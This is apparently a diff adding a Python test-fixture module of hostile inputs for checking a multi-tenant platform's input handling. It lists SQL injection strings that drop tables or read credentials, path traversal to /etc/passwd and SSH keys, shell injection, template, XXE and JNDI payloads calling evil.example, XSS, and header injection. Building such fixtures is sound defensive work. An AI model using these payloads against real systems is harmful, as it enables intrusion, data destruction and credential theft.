@@ -1,0 +1,105 @@
+"""Texts that mean something to a database, a file system, a template, a log, a mail or a shell (F-62, F-63)."""
+
+from urllib.parse import quote
+
+_SQL = (
+    "' or '1'='1",
+    "' or 1=1 --",
+    "'; drop table platform.tenants; --",
+    "'; truncate platform.sync_runs cascade; --",
+    "'; update platform.tenants set state = 'closing'; --",
+    "'; insert into platform.user_tenant_permissions select * from x; --",
+    "' union select secret from platform.credentials --",
+    "' union all select null, null, null --",
+    "'||(select version())||'",
+    "'||pg_sleep(30)||'",
+    "'; select pg_sleep(30); --",
+    "'; set role postgres; --",
+    "'; reset role; --",
+    "'; select set_config('app.tenant_id', '', true); --",
+    "'; copy (select 1) to program 'id'; --",
+    "'); delete from platform.audit_log; --",
+    "1; drop schema public cascade",
+    "1) or (1=1",
+    "1 union select 1",
+    "-1 or 1=1",
+    "$$; drop table platform.tenants; $$",
+    "$1",
+    "%s",
+    "%(tenant_id)s",
+    ":tenant_id",
+    "{tenant_id}",
+    "\\'; drop table platform.tenants; --",
+    "\\",
+    '"; drop table platform.tenants; --',
+    '" or ""="',
+    "/* */",
+    "--",
+    "'/**/or/**/1=1/**/--",
+    "' and (select count(*) from pg_user) > 0 --",
+    "' and ascii(substr((select current_user), 1, 1)) > 64 --",
+    "E'\\x27; drop table platform.tenants; --",
+    "U&'\\0027'; drop table platform.tenants; --",
+    "\u2019 or \u20191\u2019=\u20191",
+    "\uff07 or 1=1 --",
+    "x' order by 100 --",
+)
+_OTHERS = (
+    "../../../../etc/passwd",
+    "..\\..\\..\\windows\\win.ini",
+    "/etc/passwd",
+    "....//....//etc/passwd",
+    "gopher://evil.example/_passwd",
+    "C:\\boot.ini",
+    "~/.ssh/id_rsa",
+    "{{7*7}}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{% print(7*7) %}",
+    "{{config.items()}}",
+    "{0.__class__.__mro__}",
+    "${jndi:ldap://evil.example/a}",
+    "%n%n%n%n",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "; id",
+    "| id",
+    "`id`",
+    "$(id)",
+    "&& id",
+    '{"$gt": ""}',
+    "[$ne]=1",
+    "*)(uid=*))(|(uid=*",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://evil.example/x'>]>",
+    "javascript:alert(1)",
+    "\u202egnp.exe",
+    "ann@invented.example,bob@evil.example",
+    "(?=(a+)+)$",
+    "null",
+    "undefined",
+)
+#: Ends of lines and what a terminal obeys: refused wherever a line is meant.
+CONTROLS = (
+    "a\r\nSet-Cookie: x=1",
+    "a\nBcc: bob@evil.example",
+    "a\r\n\r\nHTTP/1.1 200 OK",
+    'a\n{"event": "request", "status": 200}',
+    "a\rb",
+    "a\x00b",
+    "a\x1b[31mred",
+    "a\x08\x08b",
+    "a\x7fb",
+    "a\tb\x0bc",
+)
+
+
+def _forms(text: str) -> tuple[str, ...]:
+    """As it is, as a client would encode it once too often, and hidden behind a harmless beginning."""
+    return text, quote(text, safe=""), f"harmless {text}", text.upper()
+
+
+#: 300 texts of one line each.
+LINES = tuple(dict.fromkeys(form for text in (*_SQL, *_OTHERS) for form in _forms(text)))
